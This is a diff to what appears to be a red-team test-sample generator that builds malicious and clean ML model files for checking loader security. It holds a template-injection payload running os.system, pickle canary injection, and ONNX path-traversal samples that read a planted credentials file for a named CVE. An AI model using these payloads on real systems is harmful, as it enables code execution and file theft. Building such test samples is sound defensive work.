@@ -21,6 +21,7 @@ from pathlib import Path
 import _pk
 from registry import Canary, benign, sample
 
+SECRET = "REDTEAM-SECRET-7f3a"
 SSTI_SELF = (
     "{{ self.__init__.__globals__['__builtins__']['__import__']('os').system(CMD) }}"
 )
@@ -75,7 +76,7 @@ def _fx_traced(out: Path, c: Canary) -> None:
 
     gm = symbolic_trace(Net())
     fn, (body, block) = gm.__reduce__()  # type: ignore[misc]
-    torch.save(_pk.Reduce(fn, body, block + f"{c.py}\n"), out)
+    torch.save(_pk.Reduce(fn, body, block + f"\n{c.py}"), out)
 
 
 @benign("fx-traced-module-clean", "torch-fx-graph-module-exec", loader="torch",
@@ -247,7 +248,7 @@ def _nemo_clean(out: Path, c: Canary) -> None:
 # --- ONNX external data written outside the folder when the model is saved again ----------
 
 
-def _onnx_external(out: Path, location: str) -> None:
+def _onnx_external(out: Path, location: str, shadow: str = "") -> None:
     from onnx import TensorProto, helper
 
     t = TensorProto()
@@ -256,7 +257,10 @@ def _onnx_external(out: Path, location: str) -> None:
     t.dims.append(5)
     t.raw_data = b"fired"
     t.data_location = TensorProto.EXTERNAL
-    for k, v in (("location", location), ("offset", "0"), ("length", "5")):
+    entries = [("location", location), ("offset", "0"), ("length", "5")]
+    if shadow:  # the first location is the one a first-match reader sees
+        entries.insert(0, ("location", shadow))
+    for k, v in entries:
         e = t.external_data.add()
         e.key, e.value = k, v
     node = helper.make_node("Identity", ["w"], ["y"])
@@ -286,6 +290,55 @@ def _onnx_abs(out: Path, c: Canary) -> None:
         env="onnx115", name="model.onnx")  # fmt: skip
 def _onnx_clean(out: Path, c: Canary) -> None:
     _onnx_external(out, "weights.bin")
+
+
+# --- ONNX ExternalDataInfo: keys applied with setattr, so the last duplicate wins ---------
+
+
+@sample("onnx-dup-location-save", "cve-2026-34445-onnx-external-data-keys",
+        loader="onnx_resave", env="onnx115", name="model.onnx")  # fmt: skip
+def _onnx_dup_save(out: Path, c: Canary) -> None:
+    _onnx_external(out, f"../../fired/{c.path.name}", shadow="weights.bin")
+
+
+@sample("onnx-dup-location-read", "cve-2026-34445-onnx-external-data-keys", loader="onnx",
+        env="onnx115", name="model")  # fmt: skip
+def _onnx_dup_read(out: Path, c: Canary) -> None:
+    from onnx import TensorProto, helper
+
+    secret = c.path.parent.parent / "secret" / "credentials.txt"
+    secret.parent.mkdir(exist_ok=True)
+    secret.write_text(SECRET)
+    (out / "weights").mkdir(parents=True)
+    (out / "weights.bin").write_bytes(b"\x00" * len(SECRET))
+    t = helper.make_tensor("w", TensorProto.UINT8, [len(SECRET)], b"\x00" * len(SECRET), raw=True)
+    t.ClearField("raw_data")
+    t.data_location = TensorProto.EXTERNAL
+    t.external_data.add(key="location", value="weights.bin")
+    t.external_data.add(key="location", value="weights/../" + os.path.relpath(secret, out))
+    node = helper.make_node("Identity", ["w"], ["y"])
+    info = helper.make_tensor_value_info("y", TensorProto.UINT8, [len(SECRET)])
+    graph = helper.make_graph([node], "g", [], [info], initializer=[t])
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
+    model.ir_version = 8
+    (out / "model.onnx").write_bytes(model.SerializeToString())
+
+
+@benign("onnx-weights-bin-clean", "cve-2026-34445-onnx-external-data-keys", loader="onnx",
+        env="onnx115", name="model")  # fmt: skip
+def _onnx_bin_clean(out: Path, c: Canary) -> None:
+    import onnx
+    from onnx import TensorProto, helper
+
+    t = helper.make_tensor("w", TensorProto.FLOAT, [256], [0.5] * 256)
+    node = helper.make_node("Identity", ["w"], ["y"])
+    info = helper.make_tensor_value_info("y", TensorProto.FLOAT, [256])
+    graph = helper.make_graph([node], "g", [], [info], initializer=[t])
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
+    model.ir_version = 8
+    out.mkdir()
+    onnx.save_model(model, str(out / "model.onnx"), save_as_external_data=True,
+                    location="weights.bin", size_threshold=0)  # fmt: skip
 
 
 # --- GGUF named chat templates (tokenizer.chat_template.<name>) ---------------------------
@@ -488,13 +541,15 @@ def _npz_obj(out: Path, c: Canary) -> None:
 
 
 @benign("keras-npz-weights-clean", "keras-weights-npz-pickle", loader="keras", env="keras38",
-        name="model.keras")  # fmt: skip
+        name="model.keras", gen="keras38")  # fmt: skip
 def _npz_clean(out: Path, c: Canary) -> None:
-    import numpy as np
+    """Written by Keras itself with weights_format="npz": each layer's variables are a dict,
+    which np.savez stores as a pickled object array."""
+    import keras
+    from keras.src.saving.saving_lib import save_model
 
-    buf = io.BytesIO()
-    np.savez(buf, **{"layers/dense/vars": np.zeros((2, 1, 1), dtype="float32")})
-    _keras_zip(out, _dense_config(), {"model.weights.npz": buf.getvalue()})
+    model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
+    save_model(model, str(out), weights_format="npz")
 
 
 # --- skops model cards: a non-zip model file is loaded with joblib (CVE-2025-54886) -------
